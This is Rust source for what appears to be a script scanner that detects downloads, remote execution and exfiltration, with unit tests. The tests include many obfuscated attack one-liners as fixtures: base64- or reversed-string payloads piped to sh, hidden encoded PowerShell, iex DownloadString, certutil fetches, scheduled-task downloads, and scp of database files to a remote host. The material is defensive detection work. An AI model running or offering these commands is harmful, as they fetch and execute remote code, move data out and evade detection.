fn fed_arguments(argv: &mut Vec<String>, upstream: &[Cmd]) {
    let mut urls: Vec<String> = Vec::new();
    for u in upstream {
        urls.extend(u.argv.iter().skip(1).filter(|a| a.contains("://")).cloned());
        if let Some(body) = &u.heredoc {
            urls.extend(
                body.split_whitespace()
                    .filter(|w| w.contains("://"))
                    .take(64)
                    .map(str::to_string),
            );
        }
    }
    if !urls.is_empty() {
        argv.extend(urls);
        return;
    }
    if argv.iter().any(|a| a.contains("://")) {
        return;
    }
    if let Some(p) = argv.iter().position(|a| a == "{}") {
        argv[p] = INPUT.to_string();
    } else {
        argv.push(INPUT.to_string());
    }
}

/// What a decoding command turns its input back into.
#[derive(Clone, Copy)]
enum Decoder {
    Base64,
    Base32 { hex: bool },
    Hex,
    Rev,
}

/// The decoder a command is, when it decodes (`base64 -d`, `base32
/// --decode`, `basenc --base32hex -d`, `openssl enc -d -base64`, `openssl
/// base64 -d`, `xxd -r -p`, `rev`).
fn decoder(prog: &str, argv: &[String]) -> Option<Decoder> {
    let has = |opts: &[&str]| argv.iter().any(|a| opts.contains(&a.as_str()));
    let decodes = || has(&["-d", "--decode", "-D"]);
    match prog {
        "base64" | "gbase64" if decodes() => Some(Decoder::Base64),
        "base32" | "gbase32" if decodes() => Some(Decoder::Base32 { hex: false }),
        "basenc" if decodes() => {
            if has(&["--base32"]) {
                Some(Decoder::Base32 { hex: false })
            } else if has(&["--base32hex"]) {
                Some(Decoder::Base32 { hex: true })
            } else if has(&["--base16"]) {
                Some(Decoder::Hex)
            } else {
                has(&["--base64", "--base64url"]).then_some(Decoder::Base64)
            }
        }
        // openssl base64 -d; openssl enc -d -base64 / -a / -A
        "openssl" if decodes() => {
            let sub = argv.get(1).map(String::as_str);
            (sub == Some("base64") || has(&["-base64", "-a", "-A"])).then_some(Decoder::Base64)
        }
        "rev" => Some(Decoder::Rev),
        // xxd -r -p / -rp / -r -ps: plain hex back to bytes
        "xxd" => {
            let revert = argv
                .iter()
                .any(|a| a == "-r" || a == "-revert" || a.starts_with("-r") && a.contains('p'));
            let plain = argv.iter().any(|a| {
                matches!(a.as_str(), "-p" | "-ps" | "-plain" | "-postscript")
                    || a.starts_with("-r") && a.contains('p')
            });
            (revert && plain).then_some(Decoder::Hex)
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(lang: Lang, src: &str) -> Vec<String> {
        let cat = crate::catalog::get();
        let mut e = Engine::new(cat);
        e.run(lang, src, 1, 0);
        let mut ids: Vec<String> = e
            .hits
            .iter()
            .map(|h| cat.rules[h.rule].id.clone())
            .collect();
        ids.sort();
        ids.dedup();
        ids
    }

    /// (rule id, line) of every hit.
    fn lines(lang: Lang, src: &str) -> Vec<(String, usize)> {
        let cat = crate::catalog::get();
        let mut e = Engine::new(cat);
        e.run(lang, src, 1, 0);
        let mut v: Vec<(String, usize)> = e
            .hits
            .iter()
            .map(|h| (cat.rules[h.rule].id.clone(), h.line))
            .collect();
        v.sort();
        v.dedup();
        v
    }

    #[test]
    fn ssh_running_a_remote_stream_is_a_copy() {
        for src in [
            "ssh -p 2222 -i k u@203.0.113.9 cat /srv/x.sh | sh",
            "ssh u@203.0.113.9 'tar xzf - -C /srv' < /tmp/d.tgz",
            "tar czf - /d | ssh u@203.0.113.9 'cat > /tmp/d.tgz'",
            "dd if=/dev/vda | ssh h@203.0.113.9 'sudo dd of=/srv/vda.img'",
        ] {
            assert!(
                hits(Lang::Sh, src).contains(&"ssh-remote-stream".to_string()),
                "{src}"
            );
        }
        for src in [
            "ssh u@203.0.113.9 uptime",
            "ssh -l cat 203.0.113.9 'systemctl restart app'",
            "ssh u@203.0.113.9 'tail -n 50 /var/log/app.log'",
            "ssh u@203.0.113.9 cat /etc/motd > /dev/null",
            "ssh u@203.0.113.9 cat /srv/a | dd of=/dev/null",
        ] {
            assert!(
                !hits(Lang::Sh, src).contains(&"ssh-remote-stream".to_string()),
                "{src}"
            );
        }
    }

    #[test]
    fn commands_in_a_here_doc_keep_their_own_line_numbers() {
        let src = "set -e\nsh <<'EOF'\necho start\ncurl -o /tmp/a http://203.0.113.9/a\nEOF\n";
        let got = lines(Lang::Sh, src);
        assert!(got.contains(&("curl".to_string(), 4)), "{got:?}");
        assert!(got.iter().all(|(_, l)| *l == 4), "{got:?}");
    }

    #[test]
    fn obfuscated_sh_is_seen_through() {
        for src in [
            "c=cu; ${c}rl -o /tmp/a http://203.0.113.9/a",
            "$'\\x63\\x75rl' -o /tmp/a http://203.0.113.9/a",
            "c''u\"r\"l -o /tmp/a http://203.0.113.9/a",
            "curl${IFS}-o${IFS}/tmp/a${IFS}http://203.0.113.9/a",
            "{curl,-o,/tmp/a,http://203.0.113.9/a}",
            "echo Y3VybCAtbyAvdG1wL2EgaHR0cDovLzIwMy4wLjExMy45L2E= | base64 -d | sh",
            "$(printf '\\x63\\x75\\x72\\x6c') -o /tmp/a http://203.0.113.9/a",
            "`echo Y3VybA== | base64 -d` -o /tmp/a http://203.0.113.9/a",
            "base64 --decode <<< Y3VybCAtbyAvdG1wL2EgaHR0cDovLzIwMy4wLjExMy45L2E= | bash",
            "echo 'a/9.311.0.302//:ptth a/pmt/ o- lruc' | rev | sh",
            "D=$(command -v curl || command -v wget); \"$D\" -o /tmp/a http://203.0.113.9/a",
        ] {
            assert!(hits(Lang::Sh, src).contains(&"curl".to_string()), "{src}");
        }
    }

    /// Downloads whose target comes from input, arrays and loops.
    const INPUT_FED: &[(Lang, &str, &str)] = &[
        (Lang::Sh, "wget -q -i /etc/list -P /opt/x", "url-list"),
        (Lang::Sh, "curl --config /run/c.conf", "curl-config"),
        (Lang::Sh, "xargs -a /srv/u.txt wget -q -P /srv/c", "wget"),
        (Lang::Sh, "cat l | xargs -I{} curl -sO {}", "curl"),
        (
            Lang::Sh,
            "parallel curl -sO {} ::: http://203.0.113.7/a",
            "curl",
        ),
        (
            Lang::Sh,
            "while IFS= read -r u; do curl -fsO \"$u\"; done < l",
            "curl",
        ),
        (
            Lang::Sh,
            "for u in http://203.0.113.7/a; do wget \"$u\"; done",
            "wget",
        ),
        (
            Lang::Sh,
            "d=(curl -fsS -o /tmp/r)\n\"${d[@]}\" http://203.0.113.7/r",
            "curl",
        ),
        (Lang::Sh, "curl -o /tmp/x \"$1\"", "curl"),
        (
            Lang::Sh,
            "P=${B:-http://203.0.113.7/w}/x; curl -so /tmp/x \"${P}\"",
            "curl",
        ),
        (
            Lang::Sh,
            "find /d -name '*.db' -execdir scp {} u@198.51.100.9:/in/ \\;",
            "scp-remote",
        ),
        (
            Lang::Sh,
            "flock -n /run/l -c 'curl -so /tmp/f http://203.0.113.7/f'",
            "curl",
        ),
        (
            Lang::Batch,
            "set u=http://203.0.113.7/a\ncurl.exe -o C:\\a !u!",
            "curl",
        ),
        (
            Lang::Batch,
            "for /f %%u in (C:\\l.txt) do curl.exe -sO %%u",
            "curl",
        ),
        (
            Lang::Batch,
            "forfiles /m x /c \"cmd /c curl -o a http://203.0.113.7/a\"",
            "curl",
        ),
        (
            Lang::PowerShell,
            "[string]$s = 'http://203.0.113.7/a'\niwr $s -OutFile a",
            "powershell-webrequest",
        ),
        (
            Lang::PowerShell,
            "param([string]$S = 'http://203.0.113.7/a')\nirm -Uri $S -OutFile b",
            "powershell-webrequest",
        ),
        (
            Lang::PowerShell,
            "$t = $env:windir + '\\certutil.exe'\n& $t -urlcache -f http://203.0.113.7/a b",
            "certutil",
        ),
        (
            Lang::PowerShell,
            "& ([scriptblock]::Create((irm https://203.0.113.7/m.ps1)))",
            "powershell-webrequest",
        ),
        (
            Lang::PowerShell,
            "gc l.txt | % { iwr $_ -OutFile x }",
            "powershell-webrequest",
        ),
        (
            Lang::PowerShell,
            "$u = 'http://203.0.113.7/c.xml'\n$d.Load($u)",
            "xml-load-url",
        ),
    ];

    /// Look-alikes of those: no transfer.
    const INPUT_FED_LOOK_ALIKES: &[(Lang, &str)] = &[
        (Lang::Sh, "curl -fsS \"$HEALTH_URL\""),
        (Lang::Sh, "wget -qO- \"$U\" | head -1"),
        (Lang::Sh, "cat reqs.txt | xargs pip install"),
        (Lang::Sh, "find /tmp -name '*.part' -exec rm {} \\;"),
        (Lang::Sh, "cmd=(wget --version)\n\"${cmd[@]}\""),
        (Lang::Batch, "set u=http://203.0.113.7/a\necho !u!"),
        (
            Lang::PowerShell,
            "Get-Help Invoke-WebRequest -Examples\nGet-Command Start-BitsTransfer",
        ),
        (Lang::PowerShell, "gc l.txt | % { Copy-Item $_ C:\\out }"),
    ];

    #[test]
    fn targets_from_input_arrays_and_loops() {
        for &(lang, src, rule) in INPUT_FED {
            assert!(
                hits(lang, src).contains(&rule.to_string()),
                "{src}: {:?}",
                hits(lang, src)
            );
        }
        for &(lang, src) in INPUT_FED_LOOK_ALIKES {
            assert!(hits(lang, src).is_empty(), "{src}: {:?}", hits(lang, src));
        }
        // curl -i shows headers: not a URL list.
        assert_eq!(hits(Lang::Sh, "curl -i https://203.0.113.7/x"), ["curl"]);
    }

    #[test]
    fn substitutions_without_a_program_do_not_panic() {
        // Found by tests/fuzz.rs: an assignment-only command inside `$(…)`.
        for src in [
            "$(a=1) -o x",
            "`a=1` x",
            "echo | base64 -d",
            "a=1 | base64 -d | sh",
        ] {
            let _ = hits(Lang::Sh, src);
        }
    }

    #[test]
    fn powershell_launchers_and_obfuscation() {
        // "iwr http://h.example/x" in UTF-16LE base64.
        let b = "aQB3AHIAIABoAHQAdABwADoALwAvAGgALgBlAHgAYQBtAHAAbABlAC8AeAA=";
        for (lang, src) in [
            (
                Lang::PowerShell,
                format!("powershell.exe -NoP -W Hidden -eNc {b}"),
            ),
            (
                Lang::PowerShell,
                format!("Start-Process powershell -ArgumentList '-ec {b}'"),
            ),
            (
                Lang::Batch,
                format!("cmd /c \"powershell -EncodedCommand {b}\""),
            ),
            (Lang::Sh, format!("pwsh -e {b}")),
            (
                Lang::PowerShell,
                format!(
                    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b}')))"
                ),
            ),
        ] {
            assert!(
                hits(lang, &src).contains(&"powershell-webrequest".to_string()),
                "{src}"
            );
        }
        for src in [
            "(New-Object Net.WebClient).('Down'+'loadFile')('http://h.example/a','a.exe')",
            "I`E`X (New-Object Net.WebClient).DownloadString('http://h.example/a')",
            "$s = 'iwr http://h.example/x -OutFile a.exe'; iex $s",
            "[scriptblock]::Create('iwr http://h.example/x -OutFile a.exe').Invoke()",
            "Start-Process -FilePath C:\\W\\IME\\SHARED\\IMEWDBLD.exe -ArgumentList 'https://h.example/a.zip'",
            "$p = Start-Process C:\\W\\IMEWDBLD.exe -ArgumentList @('https://h.example/a.zip') -PassThru -Wait",
            "$r = Invoke-WebRequest -Uri https://h.example/a.zip -OutFile a.zip",
        ] {
            assert!(!hits(Lang::PowerShell, src).is_empty(), "{src}");
        }
        assert!(
            hits(
                Lang::Batch,
                "for /f %%i in ('curl -s http://h.example/n') do @echo %%i"
            )
            .contains(&"curl".to_string())
        );
        assert!(
            hits(
                Lang::Batch,
                "if not exist C:\\a.exe (certutil -urlcache -f http://h.example/a C:\\a.exe)"
            )
            .contains(&"certutil".to_string())
        );
        assert!(
            hits(
                Lang::Batch,
                "schtasks /create /sc minute /tn u /tr \"curl -o C:\\u.exe http://h.example/u.exe\""
            )
            .contains(&"curl".to_string())
        );
        // Help text in a string is not a command until something runs it.
        assert!(
            hits(
                Lang::PowerShell,
                "$usage = \"Example: iwr http://h.example/x | iex\""
            )
            .is_empty()
        );
    }

    #[test]
    fn at_most_64_clones_are_remembered() {
        // `clone-then-run` for a file run inside the last of N+1 clones.
        let runs = |earlier: usize| {
            let mut text = String::from("#!/bin/sh\n");
            for n in 0..earlier {
                text.push_str(&format!(
                    "git clone https://github.com/example/k{n} /opt/k{n}\n"
                ));
            }
            text.push_str(
                "git clone https://github.com/example/kit /opt/kit\n/opt/kit/install.sh\n",
            );
            let cat = crate::catalog::get();
            let facts = crate::inspect::script::analyze(cat, "sh", text.as_bytes());
            facts
                .hits
                .iter()
                .flat_map(|h| std::iter::once(h.rule).chain(h.also.iter().copied()))
                .any(|r| cat.rules[r].id == "clone-then-run")
        };
        assert!(runs(0) && runs(63));
        assert!(!runs(64));
    }
}
